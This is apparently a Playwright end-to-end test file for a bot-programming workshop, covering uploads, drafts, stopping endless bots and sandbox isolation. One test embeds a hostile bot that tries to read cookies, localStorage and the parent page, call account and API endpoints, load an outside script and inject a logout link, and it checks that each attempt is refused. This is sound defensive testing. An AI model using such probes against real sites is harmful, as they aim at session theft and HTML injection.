"""The workshop: from a first game to a ranked bot, and bots that mean no good."""

import pytest
from playwright.sync_api import expect

from tests.e2e.whole_way import BOT, BROKEN, MENDED, MILESTONES, PATIENCE, run, whole_way, write

pytestmark = pytest.mark.on_files

ENDLESS = BROKEN.replace("return state.best_action()", "while True: pass")

HOSTILE = """from kauri.sdk import Bot
import js
from pyodide.code import run_js


def attempt(name, deed):
    try:
        print(name, "gave", deed())
    except BaseException:
        print(name, "was refused")


def ask(path):
    request = js.XMLHttpRequest.new()
    request.open("GET", SITE + path, False)
    request.send(None)
    return request.status


SITE = "{site}"
attempt("cookie", lambda: js.document.cookie)
attempt("page", lambda: js.parent.document)
attempt("storage", lambda: js.localStorage.length)
attempt("account", lambda: ask("/accounts/"))
attempt("API", lambda: ask("/api/v1/bots/"))
attempt("workshop", lambda: ask("/workshop/"))
attempt("other host", lambda: js.importScripts("https://example.org/x.js"))
attempt("script", lambda: run_js("1 + 1"))
attempt("own script", lambda: js.importScripts(SITE + "/static/kauri/kauri.js"))
js.postMessage('{{"kind": "film", "film": {{"title": "x", "size": [9, 9], "tally": "", "seats": [],'
    '"start": {{}}, "board": "<a href=\\\\"/accounts/logout/\\\\"><text>evil</text></a>"}}}}')
js.postMessage('{{"kind": "broken"}}')


class Mine(Bot):
    def choose(self, state, clock):
        return state.legal_actions()[0]
"""


@pytest.fixture
def page(people):
    page = people.visitor(viewport={"width": 1366, "height": 900}, reduced_motion="reduce")
    page.goto("workshop/")
    return page


def test_a_stranger_sees_an_error_at_its_line_beats_random_uploads_and_is_ranked(page):
    assert list(whole_way(page)) == list(MILESTONES)

    row = page.get_by_role("row").filter(has_text=BOT)
    row.get_by_role("link", name="v1", exact=True).click()
    page.get_by_role("link", name="Open in the workshop").click()
    expect(page.locator(".cm-content")).to_contain_text("playout")


def test_no_button_moves_when_a_draft_is_kept(page):
    button = page.get_by_role("button", name="Play a game")
    write(page, MENDED)
    kept = page.get_by_text("Kept in this browser.")
    expect(kept).to_be_visible()

    place = button.bounding_box()
    kept.evaluate("line => line.replaceChildren()")

    assert button.bounding_box() == place


def test_a_bot_is_asked_again_an_endless_one_is_stopped_and_a_person_plays(page):
    write(page, MENDED)
    run(page)
    expect(page.locator(".chip")).to_have_count(1, timeout=PATIENCE)
    page.get_by_role("button", name="First").click()
    page.get_by_role("button", name="Ask your bot here").click()
    expect(page.locator("[data-part=answer]")).to_contain_text("Your bot would play")
    page.get_by_role("button", name="The judge's curve").click()
    expect(page.locator("[data-part=plot-judge] svg")).to_be_visible()
    page.get_by_role("button", name="Last").click()
    page.get_by_role("button", name="Previous").click()
    page.get_by_role("button", name="100 games from here").click()
    expect(page.get_by_text("100 games: ")).to_be_visible()

    write(page, ENDLESS)
    run(page)
    expect(page.get_by_text("Playing …")).to_be_visible()
    run(page, "Stop")

    write(page, MENDED)
    page.get_by_label("Opponent").select_option("You, on the board")
    run(page)
    waiting = page.get_by_text("Your turn: choose on the board.")
    expect(waiting).to_be_visible(timeout=PATIENCE)
    page.locator(".k-tap").first.click()
    expect(page.locator("[data-part=now]")).not_to_contain_text("0 of 0")


def test_a_hostile_bot_reaches_nothing_of_the_site(page, people):
    address = page.url.removesuffix("/workshop/")
    write(page, HOSTILE.format(site=address))
    run(page)
    expect(page.locator(".chip")).to_have_count(1, timeout=PATIENCE)
    page.get_by_role("button", name="First").click()
    printed = page.locator("[data-part=printed]")

    expect(printed).to_contain_text("own script was refused")
    assert "gave" not in printed.inner_text()
    expect(page.locator("#replay svg a")).to_have_count(0)
    # What the browser refused is in its console.
    people.errors.clear()


LAST = """from kauri.sdk import Bot


class Mine(Bot):
    games = ["kalah"]

    def choose(self, state, clock):
        return state.legal_actions()[-1]
"""


def test_a_player_solves_a_step_and_moves_a_draft_to_the_account(people):
    page = people.player("heidi")
    page.goto("workshop/?step=kalah/1")
    write(page, LAST)
    run(page, "Ten games")
    expect(page.get_by_text("Solved: the goal is reached.")).to_be_visible()
    expect(page.get_by_role("link", name="Next step")).to_be_visible()

    page.goto("workshop/")
    write(page, LAST)
    expect(page.get_by_text("Kept in this browser.")).to_be_visible()
    page.get_by_role("link", name="Drafts").click()
    page.get_by_role("button", name="Move to my account").click()
    expect(page.get_by_text("This browser keeps no draft.")).to_be_visible()
    expect(page.get_by_role("link", name="A first bot")).to_be_visible()
